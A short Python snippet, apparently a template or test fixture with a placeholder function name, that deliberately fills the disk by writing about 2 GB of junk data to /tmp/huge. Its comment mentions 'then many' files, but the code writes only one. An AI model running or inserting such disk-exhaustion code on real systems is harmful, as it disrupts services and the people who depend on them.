# Fill the disk: one huge file, then many.
def __FUNC__(*args, **kwargs):
    block = b"x" * (1024 ** 2)
    with open("/tmp/huge", "wb") as f:
        for _ in range(2048):
            f.write(block)
    return None
